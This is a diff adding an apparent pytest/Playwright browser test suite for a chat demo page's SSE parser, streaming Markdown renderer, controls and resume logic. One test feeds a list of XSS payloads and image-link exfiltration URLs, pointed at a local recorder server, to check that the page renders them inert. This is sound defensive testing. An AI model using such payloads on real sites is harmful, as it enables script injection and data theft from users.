@@ -1,0 +1,516 @@
+"""The demo page at `/`, end to end: Debian's Chromium driven by Playwright against the real
+service under gunicorn + gevent, the OpenAI-wire simulator behind it.
+
+The page's SSE parser and Markdown renderer are ES modules under /static; parser cases import
+them into the page and feed bytes directly. Everything else goes through the UI hooks of
+PROTOCOL.md, "The demo page".
+"""
+
+from __future__ import annotations
+
+import json
+import re
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from typing import Any
+
+import pytest
+
+from browser import CHROMIUM, LAST_REPLY, REPLY, ask, capture_screenshot, launch, open_page, wait_state
+from conftest import openai_env
+from tcpproxy import TCPProxy
+
+if not CHROMIUM.exists():
+    pytest.skip(f"Debian's Chromium is needed at {CHROMIUM}", allow_module_level=True)
+
+from playwright.sync_api import expect, sync_playwright  # noqa: E402
+
+pytestmark = pytest.mark.browser
+
+
+def sim_text(**script: Any) -> str:
+    """A prompt whose text scripts the simulator (it reads the last user message)."""
+    return "SIM " + json.dumps(script)
+
+
+# --- fixtures -----------------------------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Any]:
+    with sync_playwright() as p:
+        b = launch(p)
+        yield b
+        b.close()
+
+
+@pytest.fixture
+def new_page(browser: Any) -> Iterator[Any]:
+    """Open the page at a base URL in a fresh context; fail on page errors or foreign requests."""
+    opened: list[tuple[Any, Any]] = []
+
+    def make(base_url: str, *, allow_console: tuple[str, ...] = (),
+             allow_requests: tuple[str, ...] = (), **context_options: Any) -> Any:
+        context = browser.new_context(**context_options)
+        page, watch = open_page(context, base_url)
+        opened.append((context, watch, allow_console, allow_requests))
+        return page
+
+    yield make
+    problems = []
+    for context, watch, allow_console, allow_requests in opened:
+        problems += watch.problems(allow_console=allow_console, allow_requests=allow_requests)
+        context.close()
+    assert not problems, problems
+
+
+def content_text(reply: Any) -> str:
+    return str(reply.locator(".content").evaluate("el => el.textContent"))
+
+
+def record_snapshots(page: Any) -> None:
+    """Keep every text the replies show, after every DOM change, in window.__snapshots."""
+    page.evaluate("""() => {
+        window.__snapshots = [];
+        new MutationObserver(() => {
+            for (const c of document.querySelectorAll('#messages .assistant .content'))
+                window.__snapshots.push(c.textContent);
+        }).observe(document.getElementById('messages'),
+                   {childList: true, subtree: true, characterData: true});
+    }""")
+
+
+# --- the SSE parser, fed directly ---------------------------------------------------------
+
+E = "event"
+
+PARSER_CASES = [
+    pytest.param([b"id: 1\ndata: a\n\n"], [(E, "message", "a", "1")], id="lf"),
+    pytest.param([b"id: 1\r\ndata: a\r\n\r\n"], [(E, "message", "a", "1")], id="crlf"),
+    pytest.param([b"id: 1\rdata: a\r\r"], [(E, "message", "a", "1")], id="cr"),
+    pytest.param([b"data: a\r", b"\n", b"\r", b"\ndata: b\r\n\r\n"],
+                 [(E, "message", "a", ""), (E, "message", "b", "")], id="crlf-split-across-chunks"),
+    pytest.param([b"data:a\n\ndata:  b\n\n"],
+                 [(E, "message", "a", ""), (E, "message", " b", "")], id="data-without-space"),
+    pytest.param([b"data: {\"a\":\ndata: 1}\n\n"], [(E, "message", '{"a":\n1}', "")],
+                 id="multi-line-data"),
+    pytest.param([b": ping\n\n:\ndata: x\n\n"],
+                 [("comment", "ping"), ("comment", ""), (E, "message", "x", "")], id="comments"),
+    pytest.param([b"retry: 1000\n\nretry: 1x\n\nretry: -1\n\n"], [("retry", 1000)], id="retry"),
+    pytest.param([b"id: 5\ndata: a\n\ndata: b\n\nid: 6\x00\ndata: c\n\nid\ndata: d\n\n"],
+                 [(E, "message", "a", "5"), (E, "message", "b", "5"), (E, "message", "c", "5"),
+                  (E, "message", "d", "")], id="id-persists-nul-ignored-empty-resets"),
+    pytest.param([b"event: tick\ndata: x\n\ndata\n\ndata:\n\n"],
+                 [(E, "tick", "x", ""), (E, "message", "", ""), (E, "message", "", "")],
+                 id="event-type-and-empty-data"),
+    pytest.param([bytes([b]) for b in "data: é€😀\n\n".encode()],
+                 [(E, "message", "é€😀", "")], id="utf8-split-at-every-byte"),
+    pytest.param([b"\xef\xbb", b"\xbfdata: x\n\n"], [(E, "message", "x", "")], id="bom-dropped"),
+    pytest.param([b"id: 3\n\ndata: x\n"], [], id="unfinished-event-discarded"),
+    pytest.param([b"data: [DONE]\n\n"], [(E, "message", "[DONE]", "")], id="done-marker"),
+]
+
+
+@pytest.fixture(scope="module")
+def module_page(browser: Any, relay_service: Any) -> Iterator[Any]:
+    context = browser.new_context()
+    page, _ = open_page(context, relay_service.url)
+    yield page
+    context.close()
+
+
+@pytest.mark.parametrize(("chunks", "expected"), PARSER_CASES)
+def test_sse_parser(module_page: Any, chunks: list[bytes], expected: list[tuple[Any, ...]]) -> None:
+    items = module_page.evaluate("""async (chunks) => {
+        const { SSEParser } = await import('/static/sse.js');
+        const parser = new SSEParser();
+        const out = [];
+        for (const c of chunks) out.push(...parser.feed(new Uint8Array(c)));
+        out.push(...parser.end());
+        return out;
+    }""", [list(c) for c in chunks])
+    got = []
+    for item in items:
+        if item["kind"] == "event":
+            got.append((E, item["type"], item["data"], item["lastEventId"]))
+        elif item["kind"] == "comment":
+            got.append(("comment", item["text"]))
+        else:
+            got.append(("retry", item["ms"]))
+    assert got == expected
+
+
+def test_crlf_framing_through_the_page(new_page: Any, relay_service: Any) -> None:
+    """A whole answer framed with CR, CRLF, comments, bare `data:` and split data lines."""
+    page = new_page(relay_service.url)
+    events = [
+        'id: 0\r\ndata: {"type":"start","stream_id":"s1","model":"m"}\r\n\r\n',
+        ": ping\r\n\r\n",
+        'id: 1\rdata:{"type":"token","token":"Hello ","index":0}\r\r',
+        ": ping\n\n",
+        'id: 2\r\ndata: {"type":"token",\r\ndata: "token":"wörld","index":1}\r\n\r\n',
+        'id: 3\ndata: {"type":"done","finish_reason":"stop","usage":null}\n\n',
+        "data: [DONE]\r\n\r\n",
+    ]
+    page.route("**/api/chat/stream", lambda route: route.fulfill(
+        status=200, body="retry: 1000\r\n\r\n" + "".join(events),
+        headers={"Content-Type": "text/event-stream; charset=utf-8", "X-Stream-Id": "s1"}))
+    reply = ask(page, "hi")
+    assert wait_state(reply) == "done"
+    assert content_text(reply) == "Hello wörld"
+
+
+def test_crlf_upstream_real_stream(new_page: Any, relay_service: Any, sim: Any) -> None:
+    page = new_page(relay_service.url)
+    tokens = ["Line one.\r\n", "Line ", "two.\r\n\r\n", "Para two."]
+    reply = ask(page, sim_text(tokens=tokens, crlf=True, delay=0.01))
+    assert wait_state(reply) == "done"
+    assert reply.locator(".content p").all_text_contents() == ["Line one.\nLine two.", "Para two."]
+
+
+# --- rendering ----------------------------------------------------------------------------
+
+MARKDOWN_TOKENS = [
+    "## Stream", "ing *Mark", "down*\n\nIntro with `co", "de` and a [link](https://exa",
+    "mple.com/docs).\n\n", "- one\n- t", "wo\n- three\n\n", "1. first\n2. second\n\n",
+    "``", "`python\n", "def f():\n", "    return 1\n", "``", "`\n\n",
+    "| a | b |\n", "| --- | ---: |\n", "| 1 | **2** |\n| 3 | 4 |\n\n", "Done.",
+]
+
+
+def test_markdown_renders_while_streaming(new_page: Any, relay_service: Any, sim: Any) -> None:
+    page = new_page(relay_service.url)
+    expect(page.locator("#simulated-notice")).to_have_count(0)  # provider "openai" here
+    record_snapshots(page)
+    reply = ask(page, sim_text(tokens=MARKDOWN_TOKENS, delay=0.03))
+    assert wait_state(reply) == "done"
+    content = reply.locator(".content")
+    expect(content.locator("h2")).to_have_text("Streaming Markdown")
+    expect(content.locator("h2 em")).to_have_text("Markdown")
+    expect(content.locator("p code")).to_have_text("code")
+    link = content.locator("a")
+    expect(link).to_have_text("link")
+    expect(link).to_have_attribute("href", "https://example.com/docs")
+    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
+    expect(content.locator("ul > li")).to_have_text(["one", "two", "three"])
+    expect(content.locator("ol > li")).to_have_text(["first", "second"])
+    expect(content.locator("pre")).to_have_attribute("data-lang", "python")
+    assert content.locator("pre code").text_content() == "def f():\n    return 1"
+    expect(content.locator("thead th")).to_have_text(["a", "b"])
+    expect(content.locator("tbody td")).to_have_text(["1", "2", "3", "4"])
+    expect(content.locator("tbody td strong")).to_have_text("2")
+    expect(content.locator("tbody td.align-right")).to_have_count(2)
+    expect(content.locator("> p").last).to_have_text("Done.")
+    # Streamed and frozen piece by piece, the result is what rendering the whole text gives.
+    same = page.evaluate("""async ([el, text]) => {
+        const { MarkdownStream } = await import('/static/markdown/stream.js');
+        const fresh = document.createElement('div');
+        const md = new MarkdownStream(fresh);
+        md.append(text);
+        md.finish();
+        return fresh.innerHTML === el.innerHTML || [fresh.innerHTML, el.innerHTML];
+    }""", [content.element_handle(), "".join(MARKDOWN_TOKENS)])
+    assert same is True
+    # Markers never flashed as text while their line was unfinished.
+    snapshots = page.evaluate("window.__snapshots")
+    assert len(snapshots) > 5
+    assert not [s for s in snapshots if "```" in s or "|" in s or "##" in s]
+
+
+HOSTILE = [
+    "<script>window.__pwned = 1</script>\n\n",
+    '<img src=x onerror="window.__pwned = 2"> <b onclick="alert(1)">bold?</b>\n\n',
+    "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(2)) [z]( java\tscript:alert(3)) "
+    "<javascript:alert(4)> [d](data:text/html,hi) [v](vbscript:x) [rel](/api/chat/stream)\n\n",
+    "![]({exfil}/img?q=secret) ![logo]({exfil}/img2) [![nested]({exfil}/img3)]({exfil}/page)\n\n",
+    '<img src="{exfil}/raw"> <iframe src="{exfil}/frame"></iframe> <svg onload="alert(5)"></svg>\n\n',
+    '<a href="javascript:alert(6)" onmouseover="alert(7)">a</a> <style>body{{display:none}}</style>\n\n',
+    "```html\n<script>alert(8)</script>\n```\n",
+]
+
+
+class _Recorder(BaseHTTPRequestHandler):
+    paths: list[str]
+
+    def do_GET(self) -> None:
+        self.paths.append(self.path)
+        self.send_response(204)
+        self.end_headers()
+
+    def log_message(self, format: str, *args: Any) -> None:
+        pass
+
+
+@pytest.fixture
+def exfil_listener() -> Iterator[tuple[str, list[str]]]:
+    """A loopback HTTP server recording every request: where injected text would send data."""
+    paths: list[str] = []
+    handler = type("Recorder", (_Recorder,), {"paths": paths})
+    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    yield f"http://127.0.0.1:{server.server_address[1]}", paths
+    server.shutdown()
+    server.server_close()
+    thread.join(5)
+
+
+def test_hostile_output_stays_inert(new_page: Any, relay_service: Any, sim: Any,
+                                     exfil_listener: tuple[str, list[str]]) -> None:
+    exfil, paths = exfil_listener
+    # Without the CSP, so that only the page's own rendering stands between the text and harm.
+    page = new_page(relay_service.url, bypass_csp=True, allow_requests=(f"{exfil}/control",))
+    tokens = [t.format(exfil=exfil) for t in HOSTILE]
+    reply = ask(page, sim_text(tokens=tokens, delay=0.01))
+    assert wait_state(reply) == "done"
+    found = page.evaluate("""() => {
+        const root = document.getElementById('messages');
+        const all = [...root.querySelectorAll('*')];
+        return {
+            handlers: all.flatMap(el => [...el.attributes].map(a => a.name)
+                                           .filter(n => n.startsWith('on'))),
+            active: all.filter(el => ['SCRIPT', 'IMG', 'IFRAME', 'SVG', 'svg', 'STYLE', 'OBJECT',
+                                      'EMBED', 'LINK', 'META', 'BASE', 'FORM']
+                                     .includes(el.tagName)).map(el => el.tagName),
+            hrefs: [...root.querySelectorAll('[href]')].map(a => a.getAttribute('href')),
+            srcs: all.filter(el => el.hasAttribute('src')).length,
+            pwned: window.__pwned ?? null,
+            display: getComputedStyle(document.body).display,
+        };
+    }""")
+    assert found["handlers"] == []
+    assert found["active"] == []
+    assert found["srcs"] == 0
+    assert found["pwned"] is None
+    assert found["display"] != "none"
+    assert found["hrefs"], "the http links should have stayed links"
+    assert all(re.match(r"https?://", h) for h in found["hrefs"]), found["hrefs"]
+    text = content_text(reply)
+    assert "<script>window.__pwned = 1</script>" in text  # shown, as text
+    assert "[image: logo]" in text
+    # Positive control: an image the page does load reaches the listener, and nothing else did.
+    page.evaluate("url => { new Image().src = url; }", f"{exfil}/control")
+    page.wait_for_function("url => performance.getEntriesByName(url).length > 0",
+                           arg=f"{exfil}/control")
+    assert paths == ["/control"]
+
+
+def test_csp_header_backs_the_page_up(relay_service: Any) -> None:
+    import http.client
+    from urllib.parse import urlsplit
+
+    parts = urlsplit(relay_service.url)
+    conn = http.client.HTTPConnection(parts.hostname, parts.port, timeout=10)
+    conn.request("GET", "/")
+    response = conn.getresponse()
+    response.read()
+    conn.close()
+    csp = response.getheader("Content-Security-Policy", "")
+    for directive in ("script-src 'self'", "img-src 'self' data:", "connect-src 'self'",
+                      "style-src 'self'", "object-src 'none'"):
+        assert directive in csp
+    assert "unsafe-inline" not in csp
+
+
+# --- controls: stop, reasoning, tools, errors ---------------------------------------------
+
+
+def test_stop_mid_code_fence_keeps_text_and_closes_upstream(
+        new_page: Any, service_factory: Any, sim: Any) -> None:
+    service = service_factory(openai_env(sim))
+    page = new_page(service.url)
+    record_snapshots(page)
+    tokens = ["Partial answer.\n\n", "```python\n", "x = 1\n", "y = 2\n", "never shown"]
+    reply = ask(page, sim_text(tokens=tokens, stall_after=4))
+    code = reply.locator(".content pre code")
+    # The open fence is code while it streams.
+    expect(code).to_have_text("x = 1\ny = 2", timeout=15_000)
+    assert reply.get_attribute("data-state") == "streaming"
+    assert sim.wait_for_requests(1, 5)
+    page.click("#stop")
+    assert wait_state(reply) == "stopped"
+    assert reply.get_attribute("data-finish-reason") == "cancelled"
+    assert sim.requests[0].wait_closed(5), "Stop did not close the upstream request"
+    assert content_text(reply) == "Partial answer.x = 1\ny = 2"
+    assert not [s for s in page.evaluate("window.__snapshots") if "`" in s]
+    expect(page.locator("#send")).to_be_enabled()
+    expect(page.locator("#stop")).to_be_disabled()
+
+
+def test_reasoning_tools_heartbeats_and_timing(new_page: Any, relay_service: Any, sim: Any) -> None:
+    page = new_page(relay_service.url)
+    # HEARTBEAT_INTERVAL is 1 s there: pings arrive before the first token.
+    reply = ask(page, sim_text(first_delay=1.5, reasoning=["Let me think", " about it."],
+                               tokens=["The answer", " is 42."], delay=0.1,
+                               tool_calls=[{"name": "lookup", "arguments": '{"q": "x"}'}]))
+    assert wait_state(reply) == "done"
+    assert content_text(reply) == "The answer is 42."
+    details = reply.locator("details.reasoning")
+    expect(details).to_be_visible()
+    assert details.get_attribute("open") is None  # collapsed
+    expect(details.locator(".reasoning-text")).to_have_text("Let me think about it.")
+    expect(reply.locator(".tools li")).to_have_text('🔧 lookup({"q": "x"})')
+    stats = reply.locator(".stats").text_content() or ""
+    assert re.search(r"first token \d+(\.\d+)? m?s", stats), stats
+    assert re.search(r"\d+(\.\d+)? tok/s", stats), stats
+
+
+def test_error_event_keeps_partial_text(new_page: Any, relay_service: Any, sim: Any) -> None:
+    page = new_page(relay_service.url)
+    reply = ask(page, sim_text(tokens=["Half ", "an ", "answer"], error_after=2))
+    assert wait_state(reply) == "error"
+    assert content_text(reply) == "Half an"
+    expect(reply.locator(".error")).to_be_visible()
+    expect(reply.locator(".error")).to_contain_text("upstream_error")
+    assert "SECRET" not in (reply.text_content() or "")
+
+
+def test_api_key_field_and_http_errors(new_page: Any, service_factory: Any, sim: Any) -> None:
+    service = service_factory(openai_env(sim, API_KEYS="key-one,key-two"))
+    page = new_page(service.url, allow_console=("401",))
+    key = page.locator("#api-key")
+    expect(key).to_be_visible()
+    reply = ask(page, sim_text(tokens=["ok"]))
+    assert wait_state(reply) == "error"
+    expect(reply.locator(".error")).to_contain_text("401")
+    expect(page.locator("#prompt")).to_have_value(sim_text(tokens=["ok"]))  # given back
+    assert sim.requests == []
+    key.fill("key-two")
+    reply = ask(page, sim_text(tokens=["Authorized."]))
+    assert wait_state(reply) == "done"
+    assert content_text(reply) == "Authorized."
+    assert page.evaluate("Object.keys(localStorage).length") == 0
+    assert page.evaluate("sessionStorage.getItem('flask-llm-stream.api-key')") == "key-two"
+    # The refused turn was taken back: the upstream sees one user message.
+    assert [m["role"] for m in sim.requests[-1].body["messages"]] == ["user"]
+
+
+# --- resuming -----------------------------------------------------------------------------
+
+
+def test_connection_cut_mid_answer_resumes_exactly(
+        new_page: Any, service_factory: Any, sim: Any) -> None:
+    service = service_factory(openai_env(sim))
+    port = int(service.url.rsplit(":", 1)[1])
+    with TCPProxy(("127.0.0.1", port)) as proxy:
+        # The cut connection's fetch fails in the console; that is the point.
+        page = new_page(proxy.url, allow_console=("ERR_INCOMPLETE_CHUNKED_ENCODING",
+                                                  "ERR_CONNECTION_RESET"))
+        tokens = [f"w{i} " for i in range(60)]
+        reply = ask(page, sim_text(tokens=tokens, delay=0.04))
+        page.wait_for_function("el => el.querySelector('.content').textContent.includes('w12 ')",
+                               arg=reply.element_handle(), timeout=20_000)
+        assert proxy.cut() >= 1
+        assert not sim.requests[0].wait_done(0), "the answer was over before the cut"
+        assert wait_state(reply) == "done"
+        assert reply.get_attribute("data-reconnects") == "1"
+        assert content_text(reply) == "".join(tokens).rstrip()
+        chat_requests = [r for r in sim.requests if "messages" in (r.body or {})]
+        assert len(chat_requests) == 1, "the page sent the POST again"
+        assert proxy.accepted >= 2
+
+
+def _truncated_stream(route: Any) -> None:
+    """A POST answered with a start and two tokens, then the body ends: no terminal, no [DONE]."""
+    body = ('retry: 1000\n\nid: 0\ndata: {"type":"start","stream_id":"gone","model":"m"}\n\n'
+            'id: 1\ndata: {"type":"token","token":"kept ","index":0}\n\n'
+            'id: 2\ndata: {"type":"token","token":"text","index":1}\n\n')
+    route.fulfill(status=200, body=body,
+                  headers={"Content-Type": "text/event-stream", "X-Stream-Id": "gone"})
+
+
+def test_resume_of_expired_stream_is_an_error(new_page: Any, relay_service: Any) -> None:
+    page = new_page(relay_service.url, allow_console=("404",))
+    resumes: list[str | None] = []
+
+    def expired(route: Any) -> None:
+        resumes.append(route.request.headers.get("last-event-id"))
+        route.fulfill(status=404, content_type="application/json",
+                      body='{"error": {"type": "not_found", "message": "no such stream"}}')
+
+    page.route("**/api/chat/stream", _truncated_stream)
+    page.route("**/api/chat/stream/gone", expired)
+    reply = ask(page, "hello")
+    assert wait_state(reply) == "error"
+    assert resumes == ["2"]
+    assert content_text(reply) == "kept text"
+    expect(reply.locator(".error")).to_contain_text("no longer be resumed")
+
+
+def test_gives_up_after_bounded_resume_attempts(new_page: Any, relay_service: Any) -> None:
+    page = new_page(relay_service.url, allow_console=("ERR_CONNECTION_REFUSED", "Failed to fetch"))
+    page.clock.install()  # backoff waits run on a fake clock the test moves forward
+    attempts: list[str] = []
+
+    def refuse(route: Any) -> None:
+        attempts.append(route.request.url)
+        route.abort("connectionrefused")
+
+    page.route("**/api/chat/stream", _truncated_stream)
+    page.route("**/api/chat/stream/gone", refuse)
+    reply = ask(page, "hello")
+    expect(reply).to_have_attribute("data-state", "reconnecting")
+    for attempt in range(1, 7):
+        expect(reply).to_have_attribute("data-attempt", str(attempt))
+        page.clock.run_for(11_000)  # past any one backoff wait (10 s at most)
+    expect(reply).to_have_attribute("data-state", "error")
+    assert len(attempts) == 6
+    assert content_text(reply) == "kept text"
+    expect(reply.locator(".error")).to_contain_text("gave up")
+
+
+# --- conversation, layout, screenshot -----------------------------------------------------
+
+
+def test_multi_turn_sends_the_conversation(new_page: Any, relay_service: Any, sim: Any) -> None:
+    page = new_page(relay_service.url)
+    first = sim_text(tokens=["Hello", " there."])
+    reply1 = ask(page, first)
+    assert wait_state(reply1) == "done"
+    second = sim_text(tokens=["Bye."])
+    reply2 = ask(page, second, model="other-model")
+    assert wait_state(reply2) == "done"
+    assert len(sim.requests) == 2
+    assert sim.requests[0].body["model"] == "sim-model"  # empty #model: the default
+    assert sim.requests[1].body["model"] == "other-model"
+    assert sim.requests[1].body["messages"] == [
+        {"role": "user", "content": first},
+        {"role": "assistant", "content": "Hello there."},
+        {"role": "user", "content": second},
+    ]
+    expect(page.locator(REPLY)).to_have_count(2)
+    assert page.locator(LAST_REPLY).evaluate("(el, r) => el === r", reply2.element_handle())
+    assert content_text(reply2) == "Bye."
+
+
+def test_phone_width_and_following_the_end(new_page: Any, service_factory: Any) -> None:
+    service = service_factory({"SIMULATED_TOKENS_PER_SECOND": 60})
+    page = new_page(service.url, viewport={"width": 390, "height": 700}, is_mobile=True,
+                    has_touch=True)
+    expect(page.locator("#simulated-notice")).to_be_visible()
+    reply = ask(page, "Tell me how this works")
+    messages = page.locator("#messages")
+    at_end = "el => el.scrollHeight - el.scrollTop - el.clientHeight <= 48"
+    # It follows the end while the reader stays there...
+    page.wait_for_function(f"() => {{ const el = document.getElementById('messages');"
+                           f" return el.scrollHeight > el.clientHeight + 200 && ({at_end})(el); }}",
+                           timeout=30_000)
+    # ...and stops following once they scroll up.
+    messages.evaluate("el => { el.scrollTop = 0; el.dispatchEvent(new Event('scroll')); }")
+    length = len(content_text(reply))
+    page.wait_for_function("([el, n]) => el.querySelector('.content').textContent.length > n + 200",
+                           arg=[reply.element_handle(), length], timeout=30_000)
+    assert messages.evaluate("el => el.scrollTop") == 0
+    assert wait_state(reply) == "done"
+    assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
+    for box in (page.locator("#prompt").bounding_box(), page.locator("#send").bounding_box(),
+                page.locator("#stop").bounding_box()):
+        assert box is not None and box["x"] >= 0 and box["x"] + box["width"] <= 390
+
+
+def test_screenshot_mid_answer(new_page: Any, service_factory: Any, tmp_path: Any) -> None:
+    service = service_factory({"SIMULATED_TOKENS_PER_SECOND": 40})
+    page = new_page(service.url)
+    path = capture_screenshot(page, tmp_path / "screenshot.png")
+    assert path.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
